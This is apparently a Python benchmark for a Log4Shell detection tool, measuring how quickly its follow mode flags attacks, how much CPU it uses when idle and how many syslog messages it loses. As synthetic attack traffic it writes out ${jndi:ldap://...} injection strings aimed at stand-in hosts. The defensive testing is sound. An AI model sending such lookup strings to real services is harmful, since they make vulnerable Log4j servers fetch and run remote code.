#!/usr/bin/env python3
"""hunt --follow: write()->detection latency, idle CPU, syslog loss.

Usage: bench/follow_bench.py [BINARY=build/log4shield] [SECONDS=10]
  latency  20 files written at 50,000 lines/s in total, 1 line in 100 an
           attack carrying its write() time; the follower's stdout is read
           as it comes; p50/p99/max of (read time - write time).
  idle     the same follower with nothing written: CPU seconds used over
           SECONDS (utime+stime from /proc/PID/stat).
  syslog   20,000 messages/s over UDP for SECONDS (1 in 100 an attack, then
           every one), then the same over one TCP connection: detections vs
           attacks sent, and the kernel's drop counter of the UDP socket
           (/proc/net/udp).
"""
import os, select, shutil, socket, subprocess, sys, tempfile, threading, time, json

BIN = sys.argv[1] if len(sys.argv) > 1 else "build/log4shield"
SECS = float(sys.argv[2]) if len(sys.argv) > 2 else 10.0
TCK = os.sysconf("SC_CLK_TCK")


def cpu_seconds(pid):
    f = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    return (int(f[11]) + int(f[12])) / TCK


def reader(proc, sink):
    for line in proc.stdout:
        sink.append((time.monotonic_ns(), line))


def latency(tmp):
    logs = os.path.join(tmp, "logs")
    os.makedirs(logs)
    fds = [os.open(os.path.join(logs, f"app{i}.log"), os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644) for i in range(20)]
    p = subprocess.Popen([BIN, "hunt", "--follow", logs, "--no-state"], stdout=subprocess.PIPE, text=True)
    got = []
    t = threading.Thread(target=reader, args=(p, got), daemon=True)
    t.start()
    time.sleep(1)
    rate, n, sent = 50000, 0, 0
    plain = b'10.0.0.1 - - [10/Dec/2021:12:34:56 +0100] "GET /index.html HTTP/1.1" 200 1234 "-" "Mozilla/5.0"\n'
    start = time.monotonic()
    while time.monotonic() - start < SECS:
        # Batches of 500 lines every 10 ms keep the rate without a syscall per sleep.
        target = int((time.monotonic() - start) * rate)
        while n < target:
            fd = fds[n % 20]
            if n % 100 == 0:
                line = ('10.0.0.2 - - [10/Dec/2021:12:34:56 +0100] "GET /?x=${jndi:ldap://b.example/%d} HTTP/1.1" 200 1\n'
                        % time.monotonic_ns()).encode()
                os.write(fd, line)
                sent += 1
            else:
                os.write(fd, plain)
            n += 1
        time.sleep(0.001)
    wall = time.monotonic() - start
    deadline = time.monotonic() + 10
    while len(got) < sent and time.monotonic() < deadline:
        time.sleep(0.05)
    p.terminate()
    p.wait()
    lat = []
    for when, line in got:
        name = json.loads(line)["jndi"]["name"]
        lat.append((when - int(name.rsplit("/", 1)[1])) / 1e6)
    lat.sort()
    pct = lambda q: lat[min(len(lat) - 1, int(q * len(lat)))]
    print(f"latency: {n} lines in {wall:.1f} s ({n / wall:,.0f} lines/s) over 20 files, {sent} attacks, "
          f"{len(lat)} detected; ms p50 {pct(0.5):.1f} p99 {pct(0.99):.1f} max {lat[-1]:.1f}")


def idle(tmp):
    logs = os.path.join(tmp, "idle")
    os.makedirs(logs)
    for i in range(20):
        open(os.path.join(logs, f"app{i}.log"), "w").write("x\n" * 1000)
    p = subprocess.Popen([BIN, "hunt", "--follow", logs, "--no-state"], stdout=subprocess.DEVNULL)
    time.sleep(1)
    c0 = cpu_seconds(p.pid)
    time.sleep(SECS)
    c1 = cpu_seconds(p.pid)
    p.terminate()
    p.wait()
    print(f"idle: {c1 - c0:.3f} CPU s over {SECS:.0f} s ({100 * (c1 - c0) / SECS:.2f} % of a core), 20 files")


def udp_drops(port):
    for line in open("/proc/net/udp").read().splitlines()[1:]:
        f = line.split()
        if int(f[1].split(":")[1], 16) == port:
            return int(f[-1])
    return -1


def syslog(tmp, proto, every):
    port = 20000 + os.getpid() % 20000
    out = os.path.join(tmp, f"syslog-{proto}-{every}.jsonl")
    p = subprocess.Popen([BIN, "hunt", "--follow", "--no-state", "--listen-syslog", f"{proto}://127.0.0.1:{port}",
                          "-o", out], stderr=subprocess.DEVNULL)
    time.sleep(1)
    if proto == "udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect(("127.0.0.1", port))
        send = lambda b: s.send(b)
    else:
        s = socket.create_connection(("127.0.0.1", port))
        send = lambda b: s.sendall(b)
    rate, n = 20000, 0
    start = time.monotonic()
    while time.monotonic() - start < SECS:
        target = int((time.monotonic() - start) * rate)
        while n < target:
            if n % every == 0:
                msg = b"<14>1 2026-12-07T21:50:00Z web01 nginx - - - GET /?q=${jndi:ldap://e.example/%d} HTTP/1.1" % n
            else:
                msg = b"<14>1 2026-12-07T21:50:00Z web01 nginx - - - GET /index.html?page=%d HTTP/1.1 200" % n
            send(msg if proto == "udp" else b"%d %s" % (len(msg), msg))
            n += 1
        time.sleep(0.001)
    wall = time.monotonic() - start
    drops = udp_drops(port) if proto == "udp" else 0
    s.close()
    deadline = time.monotonic() + 20
    count = 0
    while time.monotonic() < deadline:
        count = sum(1 for _ in open(out)) if os.path.exists(out) else 0
        if count >= (n + every - 1) // every:
            break
        time.sleep(0.1)
    p.terminate()
    p.wait()
    expected = (n + every - 1) // every
    print(f"syslog {proto}, 1 attack in {every}: sent {n} in {wall:.1f} s ({n / wall:,.0f}/s), "
          f"detections {count} of {expected}, lost {expected - count}"
          + (f", kernel drops {drops}" if proto == "udp" else ""))


tmp = tempfile.mkdtemp(prefix="follow-bench-")
try:
    if os.environ.get("ONLY_SYSLOG") is None:
        latency(tmp)
        idle(tmp)
    for every in (100, 1):
        syslog(tmp, "udp", every)
        syslog(tmp, "tcp", every)
finally:
    shutil.rmtree(tmp)
